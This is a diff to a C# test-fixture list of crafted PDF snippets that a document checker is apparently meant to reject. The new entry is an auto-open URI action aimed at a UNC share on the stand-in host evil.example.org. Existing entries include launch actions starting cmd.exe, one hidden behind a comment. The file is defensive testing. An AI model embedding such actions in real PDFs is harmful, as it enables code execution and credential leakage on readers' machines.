@@ -25,6 +25,7 @@ internal static class OddPdfs
         Refused("PDF with objects packed twice", "plan.pdf", "no office program does", "pdf-structure", Unchecked, () => Of(objects: Stream("/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]", Ascii("789C>")))),
         Refused("PDF that starts a program", "plan.pdf", "a launch action", "pdf-action", Action, () => Of("/OpenAction<</S/Launch/F(cmd.exe)>>")),
         Refused("PDF that starts a program, spaced out", "plan.pdf", "a comment between key and value", "pdf-action", Action, () => Of("/OpenAction<</S %x\n /Launch/F(cmd.exe)>>")),
+        Refused("PDF that opens a share", "plan.pdf", "an address without a scheme", "pdf-action", Action, () => Of("/OpenAction<</S/URI/URI(\\\\\\\\evil.example.org\\\\x)>>")),
         Refused("PDF with an attachment", "plan.pdf", "a file in a file", "pdf-attachment", Attachment, () => Of("/Names<</EmbeddedFiles 7 0 R>>")),
         Refused("PDF with a password", "plan.pdf", "inspectors cannot open it", "encrypted", "The PDF is protected: it needs a password, or it restricts", () => Of(trailer: "/Encrypt 6 0 R")),
         Refused("PDF form that runs", "plan.pdf", "XFA forms carry scripts", "pdf-action", Action, () => Of("/AcroForm<</XFA 8 0 R>>")),
